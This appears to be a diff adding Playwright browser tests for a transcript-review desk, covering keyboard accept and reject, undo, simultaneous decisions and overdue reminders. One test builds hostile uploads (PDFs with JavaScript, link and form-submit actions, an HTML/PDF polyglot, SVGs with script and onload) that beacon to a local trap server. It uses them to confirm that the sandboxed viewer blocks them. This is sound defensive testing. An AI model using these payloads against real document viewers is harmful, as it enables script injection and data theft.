@@ -1,0 +1,330 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { type Browser, expect, type Page } from '@playwright/test';
+import { docx, encryptedPdf, jpeg, pdf } from '../harness/documents.ts';
+import { paidJoin } from './arrange.ts';
+import { enterDesk, judgingPage, type Planted, payLongAgo, plantDocument, test } from './desk.ts';
+import { type Complaints, expectAccessible, expectNoSidewaysScroll } from './fixtures.ts';
+import { button, heading } from './steps.ts';
+
+const NOT_SHOWN = 'This document cannot be shown.';
+
+/** Makes a paid join, in a browser of its joiner. */
+async function memberOf(browser: Browser): Promise<string> {
+  const context = await browser.newContext();
+  const { uuid } = await paidJoin(await context.newPage());
+  await context.close();
+  return uuid;
+}
+
+const good: Planted = { name: 'transcript.pdf', mediaType: 'application/pdf', bytes: pdf() };
+
+/** Makes a paid join with a transcript that waits. Returns the address of its judging page. */
+async function waiting(browser: Browser): Promise<string> {
+  const uuid = await memberOf(browser);
+  await plantDocument(uuid, good);
+  return judgingPage(uuid);
+}
+
+const toast = (page: Page, text: string) => page.getByRole('dialog').filter({ hasText: text });
+const standing = (page: Page, word: string) =>
+  page.getByRole('main').getByText(word, { exact: true }).first();
+
+/** A server that counts whoever calls it, and a page that tells of all that a document must not do. */
+async function watched(page: Page) {
+  const called: string[] = [];
+  const server = createServer((request, response) => {
+    called.push(request.url!);
+    response.end();
+  });
+  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
+  const trap = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  const met: string[] = [];
+  page.on('dialog', (dialog) => {
+    met.push(`a dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  page.context().on('page', (other) => met.push(`a window: ${other.url()}`));
+  page.context().on('request', (request) => {
+    const { origin, pathname } = new URL(request.url());
+    const isOurs =
+      origin === new URL(page.url()).origin && /^\/(api\/desk|static|viewer)(\/|$)/.test(pathname);
+    if (
+      !isOurs &&
+      !['data:', 'blob:'].includes(new URL(request.url()).protocol) &&
+      !request.isNavigationRequest()
+    )
+      met.push(`a request: ${request.url()}`);
+  });
+  return {
+    trap,
+    /** Everything that happened and should not have. */
+    troubles: () => [...met, ...called.map((url) => `a call: ${url}`)],
+    end: () => server.close(),
+  };
+}
+
+/** What a document would do if it could run here. */
+const attack = (trap: string) => `
+  alert('met'); parent.document.title = 'met'; parent.localStorage.setItem('met', '1');
+  document.cookie = 'met=1'; fetch('${trap}/fetch'); new Image().src = '${trap}/image'; location = '${trap}/away';`;
+
+function hostileFiles(trap: string): (Planted & { isShown: boolean })[] {
+  const script = attack(trap)
+    .replace(/[()\\]/g, '\\$&')
+    .replace(/\s+/g, ' ');
+  return [
+    {
+      name: 'actions.pdf',
+      mediaType: 'application/pdf',
+      isShown: true,
+      bytes: pdf({
+        catalog: '/OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> ',
+        page: '/AA << /O 6 0 R >> /Annots [7 0 R 8 0 R] ',
+        more: [
+          `<< /S /JavaScript /JS (app.alert\\("met"\\); app.launchURL\\("${trap}/js"\\); ${script}) >>`,
+          `<< /Type /Annot /Subtype /Link /Rect [0 0 300 150] /A << /S /URI /URI (${trap}/link) >> >>`,
+          `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 300 150] /A << /S /SubmitForm /F (${trap}/form) >> /AA << /PV 6 0 R >> >>`,
+        ],
+      }),
+    },
+    {
+      name: 'polyglot.pdf',
+      mediaType: 'application/pdf',
+      isShown: true,
+      bytes: Buffer.concat([
+        Buffer.from(`%PDF-1.7\n%<html><script>${attack(trap).replace(/\s+/g, ' ')}</script>\n`),
+        pdf(),
+      ]),
+    },
+    {
+      name: 'page.pdf',
+      mediaType: 'application/pdf',
+      isShown: false,
+      bytes: Buffer.from(`<!doctype html><script>${attack(trap)}</script><img src="${trap}/page">`),
+    },
+    {
+      name: 'drawing.png',
+      mediaType: 'image/png',
+      isShown: false,
+      bytes: Buffer.from(
+        `<svg xmlns="http://www.w3.org/2000/svg" onload="${attack(trap)}"><script>${attack(trap)}</script><image href="${trap}/svg"/></svg>`,
+      ),
+    },
+    {
+      name: 'drawing.svg',
+      mediaType: 'image/svg+xml',
+      isShown: false,
+      bytes: Buffer.from(
+        `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>${attack(trap)}</script></svg>`,
+      ),
+    },
+    {
+      name: 'locked.pdf',
+      mediaType: 'application/pdf',
+      isShown: false,
+      bytes: encryptedPdf({ password: 'x' }),
+    },
+    {
+      name: 'words.docx',
+      mediaType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+      isShown: false,
+      bytes: docx(),
+    },
+    { name: 'photo.jpg', mediaType: 'image/jpeg', isShown: true, bytes: jpeg() },
+  ];
+}
+
+/** Allows what a browser says when a policy stops something. */
+const expectStopped = (complaints: Complaints) =>
+  complaints.expect(
+    /Content Security Policy/,
+    /Blocked|sandbox/i,
+    /^Failed to load resource: /,
+    /Unsafe attempt/,
+  );
+
+test('a hostile document is shown or not, and in no case does anything, nor could it', async ({
+  page,
+  browser,
+  complaints,
+}) => {
+  const uuid = await memberOf(browser);
+  const judging = await judgingPage(uuid);
+  await enterDesk(page, 'Una Hostile');
+  const { trap, troubles, end } = await watched(page);
+  const before = await page.evaluate(() => ({ ...localStorage }));
+  for (const { isShown, ...file } of hostileFiles(trap))
+    await test.step(file.name, async () => {
+      const id = await plantDocument(uuid, file);
+      await page.goto(`${judging}?document=${id}`);
+      if (isShown) await expect(page.getByText('Page 1 of 1')).toBeVisible();
+      else await expect(page.getByText(NOT_SHOWN)).toBeVisible();
+      await expect(page).toHaveTitle(/^Jordan Rivera/);
+      expect(new URL(page.url()).pathname).toBe(judging);
+      if (isShown) {
+        // Where its link is.
+        await page.getByRole('region', { name: file.name }).click({ position: { x: 60, y: 40 } });
+        await page.waitForLoadState('networkidle');
+      }
+      const download = page.waitForEvent('download');
+      await button(page, 'Download').click();
+      expect((await download).suggestedFilename()).toBe(file.name);
+    });
+  expect(troubles()).toEqual([]);
+  expect(await page.evaluate(() => ({ ...localStorage }))).toEqual(before);
+
+  expectStopped(complaints);
+  const frame = page.frames().find((each) => new URL(each.url()).pathname === '/viewer')!;
+  const gained = await frame.evaluate(async (address) => {
+    const could: string[] = [];
+    const attempt = async (what: string, work: () => unknown) => {
+      try {
+        await work();
+        could.push(what);
+      } catch {
+        // That is how it should be.
+      }
+    };
+    await attempt('read cookies', () => document.cookie);
+    await attempt('read what is stored', () => localStorage.length);
+    await attempt('read the page', () => window.parent.document.title);
+    await attempt('fetch', () => fetch(`${address}/fetch`));
+    await attempt('call the desk', () => fetch('/api/desk/me'));
+    await attempt('load a script', () => import(`${address}/script.js`));
+    await attempt('make a function of text', () => new Function('return 1'));
+    await attempt(
+      'work beside',
+      () =>
+        new Promise((works, fails) => {
+          const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
+          worker.onmessage = works;
+          worker.onerror = fails;
+        }),
+    );
+    await attempt('open a window', () => {
+      if (window.open(`${address}/window`) === null) throw new Error('no window');
+    });
+    await attempt('lead the page away', () => {
+      window.parent.location.href = `${address}/away`;
+    });
+    new Image().src = `${address}/image`;
+    navigator.sendBeacon(`${address}/beacon`);
+    alert('met');
+    return { could, origin: window.origin };
+  }, trap);
+  expect(gained).toEqual({ could: [], origin: 'null' });
+  await frame.evaluate((address) => {
+    location.href = `${address}/self`;
+  }, trap);
+  await page.waitForLoadState('networkidle');
+  expect(troubles().filter((trouble) => !trouble.startsWith('a request'))).toEqual([]);
+  end();
+});
+
+test('the bytes of a document are never a page, not even at their own address', async ({ page, browser }) => {
+  const uuid = await memberOf(browser);
+  const bytes = Buffer.from('<script>document.title = "met"</script>');
+  const id = await plantDocument(uuid, { name: 'page.pdf', mediaType: 'application/pdf', bytes });
+  await enterDesk(page, 'Val Bytes');
+  const download = page.waitForEvent('download');
+  await page.goto(`/api/desk/documents/${id}/bytes`).catch(() => {});
+  expect((await download).suggestedFilename()).toBe('page.pdf');
+  await expect(page).not.toHaveTitle('met');
+});
+
+test('a transcript is accepted by two keys, the next one opens, and Undo brings it back', async ({
+  page,
+  browser,
+}) => {
+  const [judging] = [await waiting(browser), await waiting(browser)];
+  await enterDesk(page, 'Wes Keys');
+  await page.goto(judging);
+  await expect(page.getByText('Page 1 of 1')).toBeVisible();
+  await page.keyboard.press('a');
+  const dialog = page.getByRole('dialog', { name: 'Accept the transcript of Jordan Rivera?' });
+  await expect(dialog).toContainText('Thank you: we have read your transcript');
+  await expect(dialog.getByRole('button', { name: 'Accept' })).toBeFocused();
+  await expectAccessible(page);
+  await page.keyboard.press('Enter');
+  await expect(toast(page, 'The transcript of Jordan Rivera is accepted.')).toBeVisible();
+  await expect(page).not.toHaveURL(judging);
+  await expect(heading(page, 'Jordan Rivera')).toBeFocused();
+  await button(page, 'Undo').click();
+  await expect(page).toHaveURL(judging);
+  await expect(standing(page, 'to decide')).toBeVisible();
+  await expect(page.getByText('taken back', { exact: true })).toBeVisible();
+});
+
+test('a transcript is rejected by three keys, and skipped by one', async ({ page, browser }) => {
+  const [judging] = [await waiting(browser), await waiting(browser)];
+  await enterDesk(page, 'Xia Keys');
+  await page.goto(judging);
+  await expect(standing(page, 'to decide')).toBeVisible();
+  await page.keyboard.press('s');
+  await expect(page).not.toHaveURL(judging);
+  await page.goto(judging);
+  await expect(standing(page, 'to decide')).toBeVisible();
+  await page.keyboard.press('r');
+  const dialog = page.getByRole('dialog', { name: 'Reject the transcript of Jordan Rivera?' });
+  await expect(dialog.getByRole('radio')).toHaveCount(6);
+  await expect(dialog.getByRole('button', { name: 'Reject' })).toHaveCount(0);
+  await page.keyboard.press('4');
+  await expect(dialog.getByRole('radio').nth(3)).toBeChecked();
+  await expect(dialog).toContainText('The applicant would read: Some pages of your transcript are missing.');
+  await expect(dialog.getByRole('button', { name: 'Reject' })).toBeFocused();
+  await expectAccessible(page);
+  await expectNoSidewaysScroll(page);
+  await page.keyboard.press('Enter');
+  await expect(toast(page, 'The transcript of Jordan Rivera is rejected.')).toBeVisible();
+  await page.goto(judging);
+  await expect(standing(page, 'rejected')).toBeVisible();
+  await page.goto('/transcripts/decided');
+  await expect(page.getByRole('row').filter({ hasText: 'by Xia Keys' })).toBeVisible();
+});
+
+test('of two who decide at once, the second reads who was first', async ({ page, browser, complaints }) => {
+  complaints.expectFailedRequests();
+  const judging = await waiting(browser);
+  const { baseURL } = test.info().project.use;
+  const other = await browser.newContext(baseURL ? { baseURL } : {});
+  const first = await other.newPage();
+  await enterDesk(first, 'Yan First');
+  await enterDesk(page, 'Zoe Second');
+  for (const each of [first, page]) {
+    await each.goto(new URL(judging, page.url()).href);
+    await expect(standing(each, 'to decide')).toBeVisible();
+  }
+  await page.keyboard.press('a');
+  const accept = page.getByRole('dialog').getByRole('button', { name: 'Accept' });
+  await expect(accept).toBeFocused();
+  await first.keyboard.press('a');
+  await first.getByRole('dialog').getByRole('button', { name: 'Accept' }).click();
+  await expect(toast(first, 'is accepted.')).toBeVisible();
+  await accept.click();
+  await expect(page.getByRole('dialog').getByRole('alert')).toHaveText(
+    /^Already accepted by Yan First at \d\d:\d\d\.$/,
+  );
+  await other.close();
+});
+
+test('those whose proof is overdue are ticked and reminded', async ({ page, browser }) => {
+  const uuid = await memberOf(browser);
+  await payLongAgo(uuid);
+  const person = (await judgingPage(uuid)).split('/')[2];
+  await enterDesk(page, 'Abe Overdue');
+  await page.getByRole('link', { name: 'Proof overdue' }).click();
+  await expect(page).toHaveURL('/transcripts/overdue');
+  await button(page, 'Remind').click();
+  await expect(page.getByText('Tick who is to be reminded first.')).toBeVisible();
+  const row = page.getByRole('row').filter({ has: page.locator(`a[href="/people/${person}"]`) });
+  await expect(row).toContainText('never');
+  await row.getByRole('checkbox').check();
+  await expectAccessible(page);
+  await button(page, 'Remind 1 person').click();
+  const dialog = page.getByRole('dialog', { name: 'Remind 1 person?' });
+  await expect(dialog).toContainText('1 person gets a letter that asks for the transcript.');
+  await dialog.getByRole('button', { name: 'Remind 1 person' }).click();
+  await expect(toast(page, 'The letters are on their way.')).toBeVisible();
+  await expect(row).not.toContainText('never');
+});
